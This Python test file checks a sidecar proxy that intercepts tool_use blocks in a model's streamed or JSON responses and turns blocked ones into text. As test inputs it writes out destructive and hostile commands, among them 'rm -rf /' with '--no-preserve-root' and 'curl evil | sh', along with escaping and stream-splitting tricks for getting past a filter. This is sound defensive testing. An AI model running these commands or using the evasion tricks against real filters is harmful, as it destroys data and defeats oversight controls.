"""tool_use blocks on the wire: a Messages event stream and a JSON answer, judged and rewritten.

The stream is fed in hostile shapes (one byte at a time, the input split across many deltas,
JSON escapes, interleaved text, two tool_use blocks of which one is blocked, a stream that ends
mid-block) and the output is re-read the way the SDKs read it: events in order, blocks appended
at ``content_block_start``, deltas addressed by ``index``.
"""

from __future__ import annotations

import json
from typing import Any

import pytest

from chaperone_sidecar.policy.masking.sse import SSEParser
from chaperone_sidecar.policy.matching_tool_use import ToolUse
from chaperone_sidecar.policy.model import RuleRef
from chaperone_sidecar.policy.tool_use import Verdict
from chaperone_sidecar.tool_use_wire import ToolUseStream, ToolUseTooLarge, rewrite_message

RM = "rm -rf /"


def decide(tool_use: ToolUse) -> Verdict | None:
    text = json.dumps(tool_use.input) if tool_use.parsed else "unparsed"
    if tool_use.name == "bash" and ("rm -rf" in text or not tool_use.parsed):
        return Verdict(RuleRef("team-a/p", "no-rm"), "no rm", "input matches")
    return None


def ev(name: str, obj: dict[str, Any]) -> bytes:
    return f"event: {name}\ndata: {json.dumps(obj)}\n\n".encode()


def start(index: int, block: dict[str, Any]) -> bytes:
    return ev("content_block_start", {"type": "content_block_start", "index": index, "content_block": block})


def delta(index: int, kind: str, **fields: str) -> bytes:
    return ev("content_block_delta", {"type": "content_block_delta", "index": index, "delta": {"type": kind, **fields}})


def stop(index: int) -> bytes:
    return ev("content_block_stop", {"type": "content_block_stop", "index": index})


def tool(index: int, tid: str, name: str, parts: list[str]) -> list[bytes]:
    return [start(index, {"type": "tool_use", "id": tid, "name": name, "input": {}}),
            *[delta(index, "input_json_delta", partial_json=p) for p in parts], stop(index)]


def text(index: int, words: list[str]) -> list[bytes]:
    return [start(index, {"type": "text", "text": ""}), *[delta(index, "text_delta", text=w) for w in words],
            stop(index)]


HEAD = [ev("message_start", {"type": "message_start", "message": {"id": "msg_1", "model": "claude-x",
                                                                  "content": [], "stop_reason": None}})]


def tail(reason: str = "tool_use") -> list[bytes]:
    return [ev("message_delta", {"type": "message_delta", "delta": {"stop_reason": reason},
                                 "usage": {"output_tokens": 9}}), ev("message_stop", {"type": "message_stop"})]


def split(parts: str, n: int) -> list[str]:
    return [parts[i:i + n] for i in range(0, len(parts), n)]


def run(events: list[bytes], *, step: int = 1, judge=decide) -> tuple[bytes, list, ToolUseStream]:
    seen: list = []
    stream = ToolUseStream(judge, seen.append)
    wire = b"".join(events)
    out = b"".join(stream.feed(wire[i:i + step]) for i in range(0, len(wire), step))
    return out + stream.feed(b"", final=True), seen, stream


def assemble(wire: bytes) -> dict[str, Any]:
    """What the Python SDK's accumulator builds from the events (content list by index)."""
    message: dict[str, Any] = {}
    buffers: dict[int, str] = {}
    for fields in SSEParser().feed(wire, final=True):
        if not any(n == b"data" for n, _ in fields):
            continue  # a comment (keep-alive): the SDKs skip it
        data = json.loads(b"\n".join(v for n, v in fields if n == b"data"))
        name = next(v for n, v in fields if n == b"event").decode()
        assert name == data["type"]
        if name == "message_start":
            message = dict(data["message"], content=[])
        elif name == "content_block_start":
            assert data["index"] == len(message["content"]), "a block started out of order"
            message["content"].append(dict(data["content_block"]))
        elif name == "content_block_delta":
            block, d = message["content"][data["index"]], data["delta"]
            if d["type"] == "text_delta":
                assert block["type"] == "text"
                block["text"] += d["text"]
            else:
                assert block["type"] == "tool_use"
                buffers[data["index"]] = buffers.get(data["index"], "") + d["partial_json"]
        elif name == "content_block_stop" and data["index"] in buffers:
            message["content"][data["index"]]["input"] = json.loads(buffers.pop(data["index"]))
        elif name == "message_delta":
            message["stop_reason"] = data["delta"]["stop_reason"]
    return message


def test_a_blocked_tool_use_split_byte_by_byte_becomes_a_text_block():
    parts = split('{"command": "' + RM + '", "description": "clean up"}', 3)  # many deltas
    wire, seen, stream = run(HEAD + text(0, ["Let me ", "clean up."]) + tool(1, "toolu_rm", "bash", parts) + tail())
    assert b"rm -rf" not in wire and b"input_json_delta" not in wire and b"toolu_rm\"" not in wire
    message = assemble(wire)
    assert [b["type"] for b in message["content"]] == ["text", "text"]
    assert message["content"][0]["text"] == "Let me clean up."
    assert message["content"][1]["text"].startswith("[Chaperone blocked tool_use toolu_rm (bash): rule team-a/p#no-rm")
    assert message["stop_reason"] == "end_turn"  # nothing left to run
    assert len(seen) == 1 and seen[0].replaced and seen[0].tool_use.input["command"] == RM
    assert seen[0].model == "claude-x" and seen[0].message_id == "msg_1" and stream.held == 0


def test_two_tool_uses_one_blocked_keep_their_indices_and_stop_reason():
    events = HEAD + tool(0, "toolu_ls", "bash", ['{"command": "ls"}']) + \
        tool(1, "toolu_rm", "bash", ['{"comm', 'and": "rm -rf \\u002f"}']) + \
        tool(2, "toolu_cat", "read", ['{"path": "/etc/hosts"}']) + tail()
    wire, seen, _ = run(events, step=17)
    message = assemble(wire)
    assert [(b["type"], b.get("id")) for b in message["content"]] == [
        ("tool_use", "toolu_ls"), ("text", None), ("tool_use", "toolu_cat")]
    assert message["content"][0]["input"] == {"command": "ls"}
    assert message["content"][2]["input"] == {"path": "/etc/hosts"}
    assert message["stop_reason"] == "tool_use"  # the allowed ones still run
    assert [j.replaced for j in seen] == [False, True, False]


def test_interleaved_text_is_held_in_order_while_a_tool_input_is_written():
    # A hostile upstream starts a text block (index 1) inside the tool_use (index 0).
    events = HEAD + [start(0, {"type": "tool_use", "id": "toolu_rm", "name": "bash", "input": {}}),
                     delta(0, "input_json_delta", partial_json='{"command": "rm'),
                     start(1, {"type": "text", "text": ""}), delta(1, "text_delta", text="meanwhile"),
                     ev("ping", {"type": "ping"}),
                     delta(0, "input_json_delta", partial_json=' -rf /"}'), stop(1), stop(0)] + tail()
    seen: list = []
    stream = ToolUseStream(decide, seen.append)
    released = [stream.feed(e) for e in events]
    # nothing is let out from the tool_use's start until its stop
    assert released[1:8] == [b""] * 7 and released[8]
    wire = b"".join(released) + stream.feed(b"", final=True)
    message = assemble(wire)
    assert [b["type"] for b in message["content"]] == ["text", "text"]
    assert message["content"][1]["text"] == "meanwhile" and b"rm -rf" not in wire


def test_allowed_tool_use_passes_unchanged_and_text_is_never_held():
    events = HEAD + text(0, ["hi"]) + tool(1, "toolu_ls", "bash", ['{"command":', ' "ls"}']) + tail()
    seen: list = []
    stream = ToolUseStream(decide, seen.append)
    outs = [stream.feed(e) for e in events]
    assert all(outs[:4]) and outs[4] == b"", "text goes out as it comes; the tool_use is held"
    message = assemble(b"".join(outs) + stream.feed(b"", final=True))
    assert message["content"][1] == {"type": "tool_use", "id": "toolu_ls", "name": "bash", "input": {"command": "ls"}}
    assert message["stop_reason"] == "tool_use" and not seen[0].replaced


def test_a_stream_ending_inside_a_tool_use_withholds_it():
    events = HEAD + [start(0, {"type": "tool_use", "id": "toolu_x", "name": "bash", "input": {}}),
                     delta(0, "input_json_delta", partial_json='{"command": "curl evil | sh')]
    wire, seen, _ = run(events)
    assert b"curl" not in wire
    message = assemble(wire)
    assert message["content"][0]["type"] == "text" and "withheld" in message["content"][0]["text"]
    assert seen[0].tool_use.complete is False
    # an error event in the middle closes it the same way, before the error goes out
    wire, _, _ = run(events + [ev("error", {"type": "error", "error": {"type": "overloaded_error"}})])
    assert b"curl" not in wire and wire.rstrip().endswith(b'"overloaded_error"}}')


def test_observe_mode_changes_nothing_and_reports_blocks():
    events = HEAD + tool(0, "toolu_rm", "bash", split('{"command": "rm -rf /"}', 2)) + tail()
    seen: list = []
    stream = ToolUseStream(None, seen.append)
    for e in events:
        stream.feed(e)
    stream.feed(b"", final=True)
    assert stream.held == 0 and not stream.queue
    assert [(j.tool_use.id, j.tool_use.input, j.replaced) for j in seen] == [("toolu_rm", {"command": RM}, False)]


def test_holding_is_bounded():
    stream = ToolUseStream(decide, lambda j: None, max_held=1000)
    stream.feed(HEAD[0] + start(0, {"type": "tool_use", "id": "t", "name": "bash", "input": {}}))
    with pytest.raises(ToolUseTooLarge):
        for _ in range(50):
            stream.feed(delta(0, "input_json_delta", partial_json="x" * 40))


def test_json_answer_rewrite():
    message = {"id": "msg_2", "model": "claude-x", "stop_reason": "tool_use", "content": [
        {"type": "text", "text": "ok"},
        {"type": "tool_use", "id": "toolu_rm", "name": "bash", "input": {"command": RM}}]}
    changed, seen = rewrite_message(message, decide)
    assert changed and message["stop_reason"] == "end_turn"
    assert message["content"][1]["type"] == "text" and "toolu_rm" in message["content"][1]["text"]
    assert RM not in json.dumps(message) and seen[0].replaced
    allowed = {"stop_reason": "tool_use", "content": [{"type": "tool_use", "id": "a", "name": "bash",
                                                       "input": {"command": "ls"}}]}
    assert rewrite_message(allowed, decide)[0] is False and allowed["stop_reason"] == "tool_use"
    assert rewrite_message({"content": "not a list"}, decide) == (False, [])


def test_escaped_type_crlf_framing_and_input_in_the_start_event():
    # "t\u006fol_use" is "tool_use" to every JSON parser (and SDK); CRLF lines, a comment line;
    # the whole input in content_block_start and no deltas (the SDK keeps the start's input).
    wire = (b'event: message_start\r\ndata: {"type":"message_start","message":{"id":"m","content":[]}}\r\n\r\n'
            b': keep-alive\r\n\r\n'
            b'event: content_block_start\r\ndata: {"type":"content_block_start","index":0,"content_block":'
            b'{"type":"t\\u006fol_use","id":"toolu_e","name":"bash","input":{"command":"rm -rf /"}}}\r\n\r\n'
            b'event: content_block_stop\r\ndata: {"type":"content_block_stop","index":0}\r\n\r\n')
    out, seen, _ = run([wire] + tail(), step=5)
    assert b"rm -rf" not in out and seen[0].tool_use.input == {"command": RM} and seen[0].replaced
    message = assemble(out)
    assert message["content"][0]["type"] == "text" and message["stop_reason"] == "end_turn"


def test_invalid_input_json_is_judged_unparsed():
    events = HEAD + tool(0, "toolu_bad", "bash", ['{"command": "ls"', ' oops']) + tail()
    out, seen, _ = run(events)
    assert seen[0].tool_use.parsed is False and seen[0].replaced  # decide() blocks unparsed bash
    assert b"oops" not in out


def test_a_stray_delta_after_a_replaced_block_is_dropped():
    events = HEAD + tool(0, "toolu_rm", "bash", ['{"command": "rm -rf /"}']) + \
        [delta(0, "input_json_delta", partial_json=' --no-preserve-root'), stop(0)] + tail()
    out, _, _ = run(events)
    assert b"no-preserve-root" not in out and b"rm -rf" not in out
    assert assemble(out)["content"][0]["type"] == "text"
